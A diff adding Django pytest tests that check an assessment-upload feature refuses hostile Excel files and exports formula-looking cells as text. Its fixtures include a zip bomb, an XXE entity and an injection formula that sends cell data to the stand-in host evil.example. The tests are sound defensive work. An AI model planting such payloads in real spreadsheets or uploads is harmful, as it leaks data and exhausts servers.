@@ -4,6 +4,7 @@
 # ruff: noqa: F811
 
 import io
+import tracemalloc
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -26,10 +27,13 @@ from campaigns.tests.test_dashboards import (  # noqa: F401 - fixtures shared wi
     stranger,
 )
 from units.models import Kind, Role
+from units.tests import xlsx_files
 
 pytestmark = pytest.mark.django_db
 
 ALL = [1] * 19
+MB = 1024 * 1024
+DAMAGED = "The Excel file is damaged or not laid out as the template; open it in Excel, save it again as .xlsx."
 NONE = [0] * 19
 
 
@@ -304,3 +308,110 @@ def test_status_is_unchanged_for_a_returned_assessment(client, noivu, district, 
     upload(client, district, [("01384", ALL)])
 
     assert saved()["01384"] == (S.RETURNED, 19)
+
+
+# Hostile files and formulas (issue 13): the reader is units.workbooks, shared with the units import
+
+
+def assessment_file(**cells) -> dict[int, list]:
+    """Rows laid out as the template: the year, the header with criteria 1–19, commune 01366 achieving all."""
+    return {
+        1: ["Year", 2024],
+        2: ["Code", "Commune", *range(1, 20), "Note"],
+        3: ["01366", cells.get("name", "Xã Cần Yên"), *ALL, cells.get("note", "")],
+    }
+
+
+@pytest.fixture(scope="module")
+def bomb() -> bytes:
+    return xlsx_files.package(xlsx_files.sheet(assessment_file(note=xlsx_files.Shared(0))), bomb_size=200 * MB)
+
+
+def test_a_zip_bomb_is_refused_without_inflating_it(client, noivu, district, communes, bomb):
+    client.force_login(noivu)
+    client.get(upload_url(district))  # the first request loads templates: not the upload's cost
+
+    tracemalloc.start()
+    try:
+        response = client.post(upload_url(district), {"file": SimpleUploadedFile("a.xlsx", bomb)})
+        _current, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert peak < 100 * MB
+    assert response.context["form"].errors["file"] == [
+        "The Excel file is too large once unpacked (at most 50 MB in 200 parts); split it into smaller files."
+    ]
+    assert not Assessment.objects.filter(unit__code="01366").exists()
+
+
+@pytest.mark.parametrize(
+    ("xml", "strings", "message"),
+    [
+        (xlsx_files.xxe_sheet(assessment_file(note="&secret;")), None, DAMAGED),
+        (xlsx_files.sheet(assessment_file(note=xlsx_files.Shared(3))), xlsx_files.shared_strings("Ghi chú"), DAMAGED),
+        (
+            xlsx_files.sheet({**assessment_file(), 10_000_000: ["01375", "", *ALL]}),
+            None,
+            "The file has more than 3,000 rows; split it into smaller files.",
+        ),
+        (
+            xlsx_files.sheet(assessment_file(note="Ghi chú " * 200)),
+            None,
+            "Cell V3 holds 1,600 characters; a cell may hold at most 1,000.",
+        ),
+    ],
+    ids=["xxe-entity", "missing-shared-string", "row-at-ten-million", "overlong-cell"],
+)
+def test_a_hostile_file_is_refused_next_to_the_field_and_saves_nothing(
+    client, noivu, district, communes, xml, strings, message
+):
+    before = saved()
+    client.force_login(noivu)
+
+    response = client.post(
+        upload_url(district), {"file": SimpleUploadedFile("a.xlsx", xlsx_files.package(xml, strings))}
+    )
+
+    assert response.context["form"].errors["file"] == [message]
+    assert saved() == before
+
+
+def test_a_malformed_sheet_is_refused_as_damaged(client, noivu, district, communes):
+    content = xlsx_files.package(xlsx_files.sheet(assessment_file())[:-30])
+    client.force_login(noivu)
+
+    response = client.post(upload_url(district), {"file": SimpleUploadedFile("a.xlsx", content)})
+
+    assert response.context["form"].errors["file"] == [DAMAGED]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/"&B7,"Xem minh chứng")'
+
+
+def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_uploads_back_unchanged(
+    client, noivu, district, communes
+):
+    Assessment.objects.filter(unit__code="01375").update(note=FORMULA)
+    client.force_login(noivu)
+
+    content = client.get(template_url(district)).content
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    note = next(row[21] for row in sheet.iter_rows(min_row=5) if row[0].value == "01375")
+    assert (note.data_type, note.value) == ("s", FORMULA)
+    response = client.post(upload_url(district), {"file": SimpleUploadedFile("same.xlsx", content)})
+    assertRedirects(response, reverse("dashboards:status", args=[district.pk, 2024]))
+    assert Assessment.objects.get(unit__code="01375").note == FORMULA
+    assert saved()["01375"] == ("draft", 9)
+
+
+def test_a_commune_name_that_looks_like_a_formula_is_exported_as_text_in_the_matrix(client, noivu, district, communes):
+    communes["approved"].name = "=SUM(1,1)"
+    communes["approved"].save()
+    client.force_login(noivu)
+
+    content = client.get(reverse("dashboards:matrix-xlsx", args=[district.pk, 2024])).content
+
+    cells = [row[1] for row in load_workbook(io.BytesIO(content)).active.iter_rows() if row[0].value == "01399"]
+    assert [(cell.data_type, cell.value) for cell in cells] == [("s", "=SUM(1,1)")]
